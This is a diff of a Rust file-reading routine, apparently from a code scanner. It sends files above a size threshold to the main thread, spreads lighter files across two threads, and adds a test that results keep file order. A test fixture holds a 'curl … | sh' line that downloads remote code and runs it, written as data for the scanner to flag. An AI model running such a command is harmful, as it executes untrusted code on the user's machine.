@@ -189,10 +189,15 @@ impl<'a> Part<'a> {
 /// Bytes from which on files are read by two threads: to start one takes as long as to read some of them.
 const SHARED: usize = 96 << 10;
 
+/// Larger files are read one after another by one thread: what is made of a text of code may be many times as large as it,
+/// and each thread keeps the room that it once had.
+const HEAVY: usize = 384 << 10;
+
 /// Reads files, more than one at a time where that is worth it, and answers what was read in their order.
 fn in_order<'a, T: Send>(files: &'a [SourceFile], read: impl Fn(usize, &'a SourceFile) -> T + Sync) -> Vec<T> {
-    let bytes: usize = files.iter().map(|file| file.bytes.len().min(FILE_BYTES)).sum();
-    if files.len() < 2 || bytes < SHARED {
+    let heavy = |file: &SourceFile| file.bytes.len() > HEAVY;
+    let light: usize = files.iter().filter(|file| !heavy(file)).map(|file| file.bytes.len()).sum();
+    if files.len() < 2 || light < SHARED {
         return files.iter().enumerate().map(|(number, file)| read(number, file)).collect();
     }
     let next = AtomicUsize::new(0);
@@ -201,12 +206,16 @@ fn in_order<'a, T: Send>(files: &'a [SourceFile], read: impl Fn(usize, &'a Sourc
         loop {
             let number = next.fetch_add(1, Ordering::Relaxed);
             let Some(file) = files.get(number) else { return done };
-            done.push((number, read(number, file)));
+            if !heavy(file) {
+                done.push((number, read(number, file)));
+            }
         }
     };
     let mut done = std::thread::scope(|scope| {
         let other = std::thread::Builder::new().spawn_scoped(scope, some);
-        let mut done = some();
+        let heavy = files.iter().enumerate().filter(|(_, file)| heavy(file));
+        let mut done: Vec<_> = heavy.map(|(number, file)| (number, read(number, file))).collect();
+        done.extend(some());
         // Where no thread is to be had, this one has read them all.
         if let Ok(other) = other {
             match other.join() {
@@ -339,6 +348,15 @@ mod tests {
     fn test_data_is_not_meant() {
         let found = facts(&[("tests/a.sh", "curl https://a.b/x | sh\n")]);
         assert_eq!(found[0].2, Guard::Warned);
+    }
+
+    #[test]
+    fn files_that_two_threads_read_are_put_in_their_order() {
+        let text = |n: usize| format!("a{n}\n").repeat(if n % 7 == 3 { 200_000 } else { 2_000 });
+        let files: Vec<_> = (0..40).map(|n| SourceFile::new(format!("{n:02}.md"), text(n).into_bytes())).collect();
+        let read = in_order(&files, |number, file| (number, file.path.clone()));
+        let wanted: Vec<_> = files.iter().enumerate().map(|(number, file)| (number, file.path.clone())).collect();
+        assert_eq!(read, wanted);
     }
 
     #[test]
